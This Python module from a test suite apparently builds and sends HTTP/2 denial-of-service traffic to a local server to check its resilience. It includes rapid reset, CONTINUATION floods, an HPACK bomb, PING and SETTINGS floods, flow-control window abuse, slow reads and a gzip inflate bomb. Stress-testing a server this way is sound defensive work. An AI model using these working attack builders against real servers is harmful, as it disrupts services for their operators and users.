"""Attacks on an HTTP/2 server, as octets: one client that does one thing as fast as the server accepts it.

The octets of an attack are prepared beforehand, the first ones and the following ones, in pieces of at most `PIECE`
octets, so sending them costs the attacker only system calls. An attacker that is disconnected connects again and starts
from the beginning. So does an attacker whose script has ended, once the server has answered the PING at the end of the
script. An attack is therefore as fast as the server works, and not as fast as the kernel queues unread octets.
`Attackers.step` sends one piece, so that an attack and a victim's calls can share one loop without delaying the
victim's clock.
"""

from __future__ import annotations

import gzip
import socket
from collections.abc import Callable
from dataclasses import dataclass
from itertools import cycle
from struct import pack
from typing import Any

from tests.support import wire

PIECE = 16_384
_CALLS = 4000
"""Calls that one connection makes; the attack continues on a new connection."""

_FINISHED = wire.frame(wire.PING, 0, 0, b"finished")
_FINISHED_ANSWER = wire.frame(wire.PING, wire.ACK, 0, b"finished")
_GOAWAY = wire.frame(wire.GOAWAY, 0, 0)[3:]
"""The beginning of a frame's header after the length."""


@dataclass(frozen=True, slots=True)
class Attack:
    """The octets that an attacking connection sends, and its behaviour."""

    what: str
    first: Callable[[Blocks], bytes]
    then: Callable[[Blocks], bytes]
    reads: bool = True
    """Whether the attacker reads the server's answers."""
    again: bool = False
    """Whether ``then`` is repeated on the same connection; otherwise the attacker connects again."""
    stays: bool = False
    """Whether the attacker keeps a connection open after its script has been sent, in order to occupy it."""
    connections: int = 2
    receive_buffer: int = 0


class Blocks:
    """Header blocks for one server."""

    def __init__(self, port: int, key: bytes) -> None:
        authority = b"127.0.0.1:%d" % port
        self.get = wire.literal_block(wire.call_fields(authority, wire.GET_COMMAND, key))
        self.sync = wire.literal_block(wire.call_fields(authority, wire.SYNC_CATALOG, key))
        self.large = wire.literal_block([*wire.call_fields(authority, wire.GET_COMMAND, key), (b"x", b"y" * 4000)])

    def with_fields(self, *more: tuple[bytes, bytes]) -> bytes:
        """The block of a call, with more fields appended."""
        return self.get + wire.literal_block(more)


def _open(stream: int, block: bytes, *, end: bool = False) -> bytes:
    return wire.frame(wire.HEADERS, wire.END_HEADERS | end, stream, block)


def _ask(stream: int, block: bytes, content: bytes) -> bytes:
    return _open(stream, block) + wire.frame(wire.DATA, wire.END_STREAM, stream, wire.message(content))


def _each(make: Callable[[int], bytes], calls: int = _CALLS) -> bytes:
    return b"".join(make(stream) for stream in range(1, 2 * calls, 2))


def _plain(blocks: Blocks) -> bytes:
    return wire.opening()


def _closed_windows(blocks: Blocks) -> bytes:
    return wire.PREFACE + wire.settings((4, 0))


def _reset(stream: int) -> bytes:
    return wire.frame(wire.RST_STREAM, 0, stream, pack(">I", 8))


def _provoke(stream: int, block: bytes) -> bytes:
    """A call that the server must reset, for one of five reasons."""
    opened = _open(stream, block)
    return (
        opened + wire.window_update(stream, 0),
        opened + wire.window_update(stream, 2**31 - 1),
        opened + wire.frame(wire.PRIORITY, 0, stream, bytes(4)),
        _open(stream, block, end=True) + wire.frame(wire.DATA, 0, stream, b"late"),
        _open(stream, block + wire.literal_block([(b"Upper-Case", b"")])),
    )[stream // 2 % 5]


def _dribble(blocks: Blocks) -> bytes:
    """Forty answers in flight; their windows grow by one octet at a time."""
    calls = _each(lambda stream: _ask(stream, blocks.get, wire.command_request(b"command00000")), 40)
    round_ = b"".join(wire.window_update(stream, 1) for stream in range(1, 80, 2))
    return calls + round_ * 100


def _bomb(blocks: Blocks) -> bytes:
    """A table entry of 4 kB, then calls of 16,000 references to it."""
    entry = b"\x40" + wire.integer(1, 7) + b"a" + wire.integer(4000, 7) + b"b" * 4000
    first = _open(1, blocks.get + entry, end=True)
    return first + b"".join(_open(stream, blocks.get + b"\xbe" * 16_000, end=True) for stream in range(3, 64, 2))


def _crumbs(blocks: Blocks) -> bytes:
    crumbs = b"".join((b"\x00\x01a\x00", b"\x0f\x11\x01b")[number % 2] for number in range(600))
    return _each(lambda stream: _open(stream, blocks.get + crumbs, end=True), 200)


def _continuations(payload: bytes) -> Callable[[Blocks], bytes]:
    return lambda blocks: (
        wire.frame(wire.HEADERS, 0, 1, blocks.get) + wire.frame(wire.CONTINUATION, 0, 1, payload) * 20_000
    )


def _inflated(blocks: Blocks) -> bytes:
    bomb = gzip.compress(bytes(8 << 20))
    content = b"\x01" + pack(">I", len(bomb)) + bomb
    block = blocks.with_fields((b"grpc-encoding", b"gzip"))
    return _each(lambda stream: _open(stream, block) + wire.frame(wire.DATA, wire.END_STREAM, stream, content), 50)


def _tiny(blocks: Blocks) -> bytes:
    announced = wire.frame(wire.DATA, 0, 1, b"\0" + pack(">I", 4_000_000))
    return _open(1, blocks.get) + announced + wire.frame(wire.DATA, 0, 1, b"x") * 100_000


HONEST = "an honest client"
"""Not an attack, but the reference for attacks: ordinary calls, as many as the server answers."""

ATTACKS: dict[str, Attack] = {
    HONEST: Attack(
        "GetCommand, 4,000 calls in one flight", _plain,
        lambda b: _each(lambda stream: _ask(stream, b.get, wire.command_request(b"command00000"))),
    ),
    "rapid reset": Attack(
        "HEADERS and RST_STREAM, 4,000 pairs a connection", _plain,
        lambda b: _each(lambda stream: _ask(stream, b.get, b"") + _reset(stream)),
    ),
    "rapid reset of unfinished calls": Attack(
        "HEADERS without END_STREAM and RST_STREAM", _plain,
        lambda b: _each(lambda stream: _open(stream, b.get) + _reset(stream)),
    ),
    "made you reset": Attack(
        "calls that the server must reset, in five ways", _plain, lambda b: _each(lambda s: _provoke(s, b.get)),
    ),
    "continuation flood": Attack("CONTINUATION frames of one octet", _plain, _continuations(b"\0")),
    "continuation flood, empty": Attack("empty CONTINUATION frames", _plain, _continuations(b"")),
    "hpack bomb": Attack("16,000 references to a 4 kB entry", _plain, _bomb),
    "cookie crumbs": Attack("600 small fields a call", _plain, _crumbs),
    "endless integer": Attack(
        "an HPACK integer that does not end", _plain,
        lambda b: wire.frame(wire.HEADERS, 0, 1, b"\x7f" + b"\x80" * 16_000)
        + wire.frame(wire.CONTINUATION, 0, 1, b"\x80" * 16_384) * 8,
    ),
    "ping flood": Attack(
        "PING, answers never read", _plain, lambda b: wire.frame(wire.PING, 0, 0, bytes(8)) * 50_000,
        reads=False, again=True, receive_buffer=4096,
    ),
    "ping flood, read": Attack(
        "PING, answers read", _plain, lambda b: wire.frame(wire.PING, 0, 0, bytes(8)) * 50_000, again=True,
    ),
    "settings flood": Attack(
        "empty SETTINGS, answers never read", _plain, lambda b: wire.settings() * 50_000,
        reads=False, again=True, receive_buffer=4096,
    ),
    "settings of 2,700 entries": Attack(
        "long SETTINGS frames", _plain, lambda b: wire.settings(*[(4, n) for n in range(2700)]) * 40, again=True,
    ),
    "window toggling": Attack(
        "100 calls open, INITIAL_WINDOW_SIZE up and down", _plain,
        lambda b: _each(lambda stream: _open(stream, b.get), 100)
        + (wire.settings((4, 0)) + wire.settings((4, 65_535))) * 10_000,
    ),
    "window dribble": Attack("40 answers, windows opened octet by octet", _closed_windows, _dribble),
    "slow read": Attack(
        "64 catalogues asked for, none read", _plain,
        lambda b: _each(lambda stream: _ask(stream, b.sync, b""), 64), reads=False, stays=True, receive_buffer=4096,
        connections=8,
    ),
    "closed window": Attack(
        "4,000 answers asked for with a window of 0", _closed_windows,
        lambda b: _each(lambda stream: _ask(stream, b.get, wire.command_request(b"command00000"))),
        stays=True, connections=8,
    ),
    "priority flood": Attack(
        "PRIORITY for idle streams", _plain,
        lambda b: _each(lambda stream: wire.frame(wire.PRIORITY, 0, stream, bytes(5)), 20_000), again=True,
    ),
    "empty names": Attack(
        "header fields without a name", _plain,
        lambda b: _each(lambda stream: _open(stream, b.get + b"\x00\x00\x00", end=True)),
    ),
    "empty data": Attack(
        "empty DATA without END_STREAM", _plain,
        lambda b: _open(1, b.get) + wire.frame(wire.DATA, 0, 1) * 100_000,
    ),
    "tiny data": Attack("a message of 4 MB in DATA of one octet", _plain, _tiny),
    "inflate bomb": Attack("8 MiB of zeros, compressed to 8 kB", _plain, _inflated),
    "calls before SETTINGS": Attack(
        "1,000 unfinished calls in the first flight", _plain,
        lambda b: _each(lambda stream: _open(stream, b.get), 1000),
    ),
    "large headers": Attack(
        "4 kB of headers in each unfinished call", _plain,
        lambda b: _each(lambda stream: _open(stream, b.large), 1000),
    ),
    "half a preface": Attack(
        "500 connections that say half a preface", lambda b: wire.PREFACE[:12], lambda b: b"", stays=True,
        connections=500,
    ),
    "garbage": Attack("octets that are no HTTP/2", lambda b: b"", lambda b: bytes(range(256)) * 64),
}  # fmt: skip


class Attackers:
    """The connections of one attack."""

    def __init__(self, attack: Attack, port: int, key: bytes) -> None:
        blocks = Blocks(port, key)
        self.attack, self.port = attack, port
        first, then = attack.first(blocks), attack.then(blocks)
        self.script = _pieces(first + then if attack.again or attack.stays else first + then + _FINISHED)
        self.again = _pieces(then) if attack.again else []
        self._members = [_Attacker(self) for _ in range(attack.connections)]
        self._turn = cycle(self._members)
        self.octets = self.connects = self.thrown_out = self.scripts = 0

    def step(self) -> None:
        """Send one piece on the next connection."""
        next(self._turn).step()

    def close(self) -> dict[str, Any]:
        """Close all connections. Returns the figures."""
        for member in self._members:
            member.leave()
        told = {"octets": self.octets, "scripts": self.scripts, "connects": self.connects}
        return told | {"thrown_out": self.thrown_out}


class _Attacker:
    """One attacker, which makes one connection after the other. No method waits, because the victim's clock is in the
    same loop."""

    def __init__(self, owner: Attackers) -> None:
        self._owner = owner
        self._sock: socket.socket | None = None
        self._script: list[bytes] = []
        self._at = self._sent = 0
        self._heard = b""

    def step(self) -> None:
        try:
            if self._sock is None:
                self._connect()
            else:
                self._send(self._sock)
                if self._owner.attack.reads:
                    self._read(self._sock)
        except BlockingIOError:
            pass
        except OSError:
            self._owner.thrown_out += 1
            self.leave()

    def _connect(self) -> None:
        self._sock = socket.socket()
        if self._owner.attack.receive_buffer:
            self._sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self._owner.attack.receive_buffer)
        self._sock.setblocking(False)
        self._script, self._at, self._sent, self._heard = self._owner.script, 0, 0, b""
        self._owner.connects += 1
        self._sock.connect_ex(("127.0.0.1", self._owner.port))

    def _send(self, sock: socket.socket) -> None:
        if self._at < len(self._script):
            try:
                sent = sock.send(self._script[self._at][self._sent :])
            except BlockingIOError:
                return
            self._owner.octets += sent
            self._sent += sent
            if self._sent == len(self._script[self._at]):
                self._at, self._sent = self._at + 1, 0
        elif self._owner.again:
            self._owner.scripts += 1
            self._script, self._at = self._owner.again, 0

    def _read(self, sock: socket.socket) -> None:
        """Read from the server until the end of the connection, or until the answer to the PING at the end of the
        script."""
        data = sock.recv(65_536)
        self._heard = self._heard[-len(_FINISHED_ANSWER) :] + data
        if not data or _GOAWAY in self._heard:
            raise ConnectionResetError
        if _FINISHED_ANSWER in self._heard and not self._owner.attack.stays:
            self._owner.scripts += 1
            self.leave()

    def leave(self) -> None:
        if self._sock is not None:
            self._sock.close()
            self._sock = None


def _pieces(octets: bytes) -> list[bytes]:
    return [octets[at : at + PIECE] for at in range(0, len(octets), PIECE)]
